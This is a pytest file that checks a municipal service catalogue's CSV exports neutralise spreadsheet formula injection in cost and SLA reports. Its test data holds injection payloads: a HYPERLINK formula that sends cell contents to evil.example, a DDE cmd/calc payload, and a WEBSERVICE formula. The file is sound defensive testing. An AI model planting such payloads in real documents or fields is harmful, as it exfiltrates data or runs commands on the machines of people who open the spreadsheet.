"""No CSV the service writes starts a cell with a formula (issue 15, item 17).

Text cells beginning with ``=``, ``+``, ``-``, ``@``, tab or CR are prefixed
with an apostrophe (kommune_ikt/core/csvsafe.py); numbers, negative amounts
included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from kommune_ikt.core.auth.actor import SYSTEM, Actor, Role
from kommune_ikt.core.csvsafe import PLAIN_NUMBER, TRIGGERS
from service_catalog import special_requests
from service_catalog.reports.csv_export import LINE_COLUMNS

pytestmark = pytest.mark.db

HOST = "1505"
EVIL_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def evil_books(session, create_municipality, create_user, make_key, make_service, this_year):
    create_municipality(HOST)
    make_key(default=True)
    for i, name in enumerate(EVIL_NAMES):
        make_service(f"EVIL{i}", "basic", name=name, price={"annual_cost": Decimal("1200.00")})
    make_service("KONSULENT", "special", name="Konsulenttime")
    orderer = create_user("orderer", HOST)
    actor = Actor(orderer.id, Role.ORDERER, HOST, orderer.email)
    request = special_requests.submit_request(session, actor, {"title": "=WEBSERVICE(A1)"})
    special_requests.quote_request(session, SYSTEM, request.id, {"hours": Decimal("2")})
    special_requests.accept_request(session, actor, request.id)
    session.commit()
    return orderer


def _rows(response, dialect):
    assert response.status_code == 200, response.get_data(as_text=True)
    text = response.get_data(as_text=True).lstrip("\ufeff")
    delimiter = ";" if dialect == "excel-no" else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# The one formula the service writes on purpose: the Excel dialect's text form of a
# month or municipality number (="2024-01", ="0301"), digits and hyphens only.
EXCEL_TEXT = re.compile(r'="[0-9-]+"')


def _assert_no_formula(rows):
    for row in rows[1:]:
        for value in row:
            if value.startswith(TRIGGERS):
                assert PLAIN_NUMBER.fullmatch(value) or EXCEL_TEXT.fullmatch(value), (
                    f"formula-like cell {value!r} in {row}"
                )


@pytest.mark.parametrize("dialect", ["rfc4180", "excel-no"])
def test_cost_report_csv_neutralises_formula_text(client, evil_books, this_year, dialect):
    response = client.get(
        f"/api/v1/cost-reports/{this_year}?municipality={HOST}&dialect={dialect}",
        headers={**evil_books.headers, "Accept": "text/csv"},
    )
    rows = _rows(response, dialect)
    _assert_no_formula(rows)
    # The Excel dialect translates its headings; the columns stay in the same order.
    names = {row[LINE_COLUMNS.index("service_name")] for row in rows[1:]}
    for name in EVIL_NAMES:
        assert "'" + name in names
    assert any("=WEBSERVICE(A1)" in cell for row in rows for cell in row)


@pytest.mark.parametrize("dialect", ["rfc4180", "excel-no"])
def test_collaboration_csv_neutralises_formula_text(
    client, evil_books, create_user, this_year, dialect
):
    agent = create_user("agent")
    response = client.get(
        f"/api/v1/cost-reports/{this_year}?dialect={dialect}",
        headers={**agent.headers, "Accept": "text/csv"},
    )
    _assert_no_formula(_rows(response, dialect))


def test_sla_report_csv_neutralises_formula_text(client, create_user, monkeypatch):
    from metrics import queries

    row = queries.SlaReportRow("=1+1", 1, 2, 1, 1, -0.5, 1, 1, 0.5, 2)
    monkeypatch.setattr(queries, "get_sla_report", lambda *a, **k: {"rows": [queries.asdict(row)]})
    agent = create_user("agent")
    response = client.get("/api/v1/reports/sla?format=csv", headers=agent.headers)
    rows = _rows(response, "rfc4180")
    _assert_no_formula(rows)
    assert rows[1][0] == "'=1+1"
    assert rows[1][5] == "-0.5"  # a negative number stays a number
